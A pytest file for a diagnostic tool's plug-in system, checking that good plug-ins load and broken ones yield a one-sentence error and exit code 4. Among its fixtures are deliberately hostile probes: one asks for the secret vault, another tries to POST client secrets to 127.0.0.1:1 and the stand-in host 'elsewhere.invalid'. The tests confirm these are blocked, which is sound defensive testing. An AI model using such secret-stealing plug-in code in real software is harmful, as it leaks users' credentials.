"""A package outside this repository adds a check, a probe and a renderer; a bad one is a sentence and exit code 4."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from doctor.sandbox.server import Sandbox

PYPROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "{name}"
version = "1.0"
{points}
[tool.hatch.build.targets.wheel]
include = ["*.py"]
"""
GOOD = '''
"""The version that the environment shows is one that we support."""
from collections.abc import Iterator
from dataclasses import dataclass

from doctor.api import (
    Cause, Endpoint, Finding, Http, Missing, Report, Request, Stage, Target, TransportFailure, Worst, check, probe,
)

OLD = Cause(
    id="acme-old", stage=Stage.API, worst=Worst.WARN, title="The environment is old", fix="Ask for an upgrade.",
    reference="Acme handbook", meaning="m", detection="d", steps=("s",), origin="o", prevention="p",
)


@dataclass(frozen=True)
class Welcome:
    status: int


@probe(question="what the front page says")
def welcome(http: Http, target: Target) -> Welcome | Missing:
    answer = http.ask(Request("read the front page", Endpoint.API, "GET", target.origin + "/acme", lane="acme"))
    return Missing(answer.detail) if isinstance(answer, TransportFailure) else Welcome(answer.status)


@check(id="acme-welcome", title="The front page is there", stage=Stage.API, causes=(OLD,))
def run(welcome: Welcome) -> Iterator[Finding]:
    if welcome.status == 404:
        yield OLD.found(observed=f"the front page answered {welcome.status}", expected="200")


def render(report: Report, style: object) -> str:
    return f"ACME {report.verdict} {report.exit_code}"


PROBES, CHECKS = (welcome,), [run]
'''
GOOD_POINTS = """
[project.entry-points."ataccama_doctor.checks"]
acme = "acme_plugin:CHECKS"
[project.entry-points."ataccama_doctor.probes"]
acme = "acme_plugin:PROBES"
[project.entry-points."ataccama_doctor.renderers"]
acme = "acme_plugin:render"
"""
HEAD = """
from dataclasses import dataclass
from doctor.api import Missing, Http, Deferred, Stage, Target, TokenResponse, check, probe, Realm
@dataclass(frozen=True)
class Mine:
    x: int
"""
CHECK, PROBE = "checks", "probes"
BAD: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "cannot be imported": (CHECK, "import no_such_module_anywhere", ("cannot be loaded", "no_such_module_anywhere")),
    "has a syntax error": (CHECK, "def (", ("cannot be loaded", "SyntaxError")),
    "leaves the program": (CHECK, "raise SystemExit(0)", ("cannot be loaded", "SystemExit")),
    "lacks what it names": (CHECK, "y = 1", ("cannot be loaded", "AttributeError")),
    "is no check": (CHECK, "x = 5", ("is int, not a check",)),
    "has a wrong signature": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(thing): ...',
        ("cannot be loaded", "has no type"),
    ),
    "wants a network": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(realm: Deferred[Realm]): ...',
        ("cannot be loaded", "cannot defer"),
    ),
    "gives no fact": (PROBE, HEAD + '@probe(question="q")\ndef x(target: Target) -> int: ...', ("one fact",)),
    "crashes": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(target: Target):\n    yield 1 / 0',
        ("broke", "ZeroDivisionError"),
    ),
    "leaves while it checks": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(target: Target):\n    raise SystemExit(0)',
        ("broke", "SystemExit"),
    ),
    "gives no findings": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(target: Target):\n    yield "bad"',
        ("gave str, not findings",),
    ),
    "gives nothing that can be gone through": (
        CHECK,
        HEAD + '@check(id="a-b", title="t", stage=Stage.API)\ndef x(target: Target):\n    return 7',
        ("broke", "TypeError"),
    ),
    "has a built-in's id": (
        CHECK,
        HEAD + '@check(id="jwt-expiry", title="t", stage=Stage.API)\ndef x(target: Target): ...',
        ("jwt-expiry", "ataccama-doctor has it already"),
    ),
    "gives a built-in's fact": (
        PROBE,
        HEAD + '@probe(question="q")\ndef x(http: Http) -> TokenResponse: ...',
        (),
    ),
    "asks for the vault": (
        PROBE,
        "from doctor.model.secret import Vault\n"
        + HEAD
        + '@probe(question="q")\ndef x(vault: Vault) -> Mine:\n    raise AssertionError(vault.secrets())',
        ("asks for the vault, which plug-ins do not get",),
    ),
    "crashes on the network": (
        PROBE,
        HEAD + '@probe(question="q")\ndef x(http: Http) -> Mine:\n    raise RuntimeError("boom")',
        ("The probe x broke (RuntimeError)",),
    ),
    "leaves while it asks": (
        PROBE,
        HEAD + '@probe(question="q")\ndef x(http: Http) -> Mine:\n    raise SystemExit(0)',
        ("The probe x broke (SystemExit)",),
    ),
    "gives another fact": (
        PROBE,
        HEAD + '@probe(question="q")\ndef x(http: Http) -> Mine:\n    return 7',
        ("gave int, not Mine",),
    ),
}


@pytest.fixture(scope="module")
def env() -> Iterator[Sandbox]:
    with Sandbox() as environment:
        yield environment


def laid_out(folder: Path, name: str, source: str, points: str) -> Path:
    """The package as an installer would leave it: a module, and its entry points beside it."""
    place = folder / f"{name}-1.0.dist-info"
    place.mkdir(parents=True)
    (folder / f"{name}.py").write_text(source, "utf-8")
    (place / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", "utf-8")
    (place / "entry_points.txt").write_text(points, "utf-8")
    return folder


def examined(env: Sandbox, path: Path, *options: str) -> "subprocess.CompletedProcess[str]":
    """``check`` on the environment, with this folder among the installed packages."""
    settings = {f"ATACCAMA_{n.upper()}": v for n, v in env.settings.items() if n != "ca_bundle"}
    kept = {n: os.environ[n] for n in ("PATH", "LANG", "SYSTEMROOT") if n in os.environ}
    return subprocess.run(
        [sys.executable, "-m", "doctor", "check", "--ca-bundle", env.ca_bundle, "--no-input", *options],
        env={**kept, **settings, "PYTHONPATH": f"{path}{os.pathsep}{Path(__file__).parents[1]}", "HOME": str(path)},
        cwd=path, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=60, check=False,
    )  # fmt: skip


def report_of(done: "subprocess.CompletedProcess[str]") -> dict[str, Any]:
    assert "Traceback" not in done.stderr, done.stderr
    assert done.stdout, done.stderr
    report: dict[str, Any] = json.loads(done.stdout)
    assert done.returncode == report["exit_code"]
    return report


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The good package, built from its source and installed by pip into a folder of its own."""
    source, target = tmp_path_factory.mktemp("source"), tmp_path_factory.mktemp("site")
    (source / "acme_plugin.py").write_text(GOOD, "utf-8")
    (source / "pyproject.toml").write_text(PYPROJECT.format(name="acme-plugin", points=GOOD_POINTS), "utf-8")
    options = ["--quiet", "--no-deps", "--no-build-isolation", "--no-index", "--no-compile"]
    done = subprocess.run(
        [sys.executable, "-m", "pip", "install", *options, "--target", target, source],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return target


def test_an_installed_package_adds_a_check_and_a_probe(env: Sandbox, installed: Path) -> None:
    report = report_of(examined(env, installed, "--format", "json"))
    target = report["targets"][0]
    (mine,) = (c for c in target["checks"] if c["id"] == "acme-welcome")
    assert (report["exit_code"], report["verdict"], mine["outcome"]) == (0, "warnings", "warn")
    assert mine["findings"][0]["observed"] == "the front page answered 404"
    assert {"type": "Welcome", "version": 1, "value": {"status": 404}} in target["facts"]
    (asked,) = (e for e in target["exchanges"] if e["purpose"] == "read the front page")
    assert (asked["request"]["url"], asked["response"]["status"]) == (f"{env.url}/acme", 404)
    assert len(target["checks"]) > 20


def test_an_installed_package_adds_a_renderer(env: Sandbox, installed: Path) -> None:
    done = examined(env, installed, "--format", "acme", "--report", f"acme={installed / 'r.txt'}")
    assert (done.stdout, done.returncode) == ("ACME warnings 0\n", 0)
    assert (installed / "r.txt").read_text("utf-8") == "ACME warnings 0"


def test_list_names_who_brought_a_check(env: Sandbox, installed: Path) -> None:
    kept = {"PATH": os.environ["PATH"], "PYTHONPATH": f"{installed}{os.pathsep}{Path(__file__).parents[1]}"}
    done = subprocess.run(
        [sys.executable, "-m", "doctor", "list"], env=kept, capture_output=True, text=True, timeout=30, check=False
    )
    assert done.returncode == 0
    assert "acme-welcome" in done.stdout
    assert "acme-plugin" in done.stdout


ROWS = [pytest.param(name) for name in BAD]


@pytest.fixture(scope="module")
def examined_with(env: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One run for each bad plug-in, two at a time."""

    def one(name: str) -> "subprocess.CompletedProcess[str]":
        group, source, _ = BAD[name]
        points = f"[ataccama_doctor.{group}]\nbad = bad_plugin:x\n"
        folder = laid_out(tmp_path_factory.mktemp("bad"), "bad_plugin", source, points)
        return examined(env, folder, "--format", "json", "--deadline", "2")

    with ThreadPoolExecutor(2) as pool:
        return dict(zip(BAD, pool.map(one, BAD), strict=True))


@pytest.mark.parametrize("name", ROWS)
def test_a_plugin_is_a_sentence_and_exit_code_4_that(name: str, examined_with: dict[str, Any]) -> None:
    words, report = BAD[name][2], report_of(examined_with[name])
    target = report["targets"][0]
    told = [c["skip_reason"] for c in target["checks"] if c["outcome"] == "error"]
    assert (report["exit_code"], report["verdict"], len(told)) == (4, "error", 1)
    for word in words:
        assert word in told[0]
    assert "\n" not in told[0]
    outcomes = {c["id"]: c["outcome"] for c in target["checks"]}
    assert (outcomes["token-request"], outcomes["jwt-expiry"], outcomes["protected-get"]) == ("pass",) * 3
    assert report["summary"]["passed"] >= 25


def test_a_plugin_that_never_ends_is_left_behind_at_the_deadline(env: Sandbox, tmp_path: Path) -> None:
    source = HEAD + 'import time\n@probe(question="q")\ndef x(http: Http) -> Mine:\n    time.sleep(60)'
    folder = laid_out(tmp_path, "bad_plugin", source, "[ataccama_doctor.probes]\nbad = bad_plugin:x\n")
    report = report_of(examined(env, folder, "--format", "json", "--deadline", "1"))
    assert report["summary"]["passed"] >= 25
    assert report["duration_ms"] < 2500


def test_a_probe_gets_no_secret_out_of_the_transport(env: Sandbox, tmp_path: Path) -> None:
    source = (
        HEAD
        + """
from doctor.api import Endpoint, Request, SecretRef, TransportFailure
@dataclass(frozen=True)
class Loot:
    words: str
@probe(question="q")
def x(http: Http, target: Target) -> Loot:
    refs = [SecretRef(n, v) for n in ("client_secret", "client_id") for v in ("as given", "swapped")]
    said = []
    for origin in ("https://127.0.0.1:1", "http://127.0.0.1:1", "http://elsewhere.invalid"):
        for ref in refs[:1] + refs[3:]:
            answer = http.ask(Request("steal", Endpoint.API, "POST", origin + "/", form={"note": ref}))
            said.append(f"{getattr(answer, 'kind', answer)}")
    page = http.ask(Request("echo", Endpoint.API, "GET", target.origin + "/nowhere"))
    return Loot(" ".join(said) + repr(page))
"""
    )
    folder = laid_out(tmp_path, "bad_plugin", source, "[ataccama_doctor.probes]\nbad = bad_plugin:x\n")
    done = examined(env, folder, "--format", "json")
    report = report_of(done)
    (loot,) = (f["value"]["words"] for f in report["targets"][0]["facts"] if f["type"] == "Loot")
    assert loot.startswith("not sent " * 5 + "not sent")
    assert env.client_secret not in done.stdout


def test_a_renderer_that_takes_a_built_ins_name_is_not_used(env: Sandbox, tmp_path: Path) -> None:
    points = "[ataccama_doctor.renderers]\nshort = bad_plugin:render\n"
    folder = laid_out(tmp_path, "bad_plugin", "def render(report, style): return 'MINE'", points)
    done = examined(env, folder, "--format", "short")
    assert "MINE" not in done.stdout
    assert done.stdout


RENDERERS = {
    "cannot be imported": ("import no_such_module", "cannot be loaded"),
    "has a wrong signature": ("def render(): return 'x'", "broke"),
    "crashes": ("def render(report, style): return 1 / 0", "broke"),
    "gives no text": ("def render(report, style): return 7", "broke"),
}


RENDERER_ROWS = [
    *(pytest.param(*row, id=name) for name, row in RENDERERS.items()),
    pytest.param("raise SystemExit(0)", "cannot be loaded", id="leaves the program"),
]


@pytest.mark.parametrize(("source", "word"), RENDERER_ROWS)
def test_a_renderer_that_cannot_be_used_is_a_sentence_and_the_other_output_is_written(
    source: str, word: str, env: Sandbox, tmp_path: Path
) -> None:
    folder = laid_out(tmp_path, "bad_plugin", source, "[ataccama_doctor.renderers]\nodd = bad_plugin:render\n")
    done = examined(env, folder, "--format", "short", "--report", f"odd={tmp_path / 'r'}")
    assert done.returncode == 4
    assert word in done.stderr
    assert "Traceback" not in done.stderr
    assert done.stdout
    assert not (tmp_path / "r").exists()
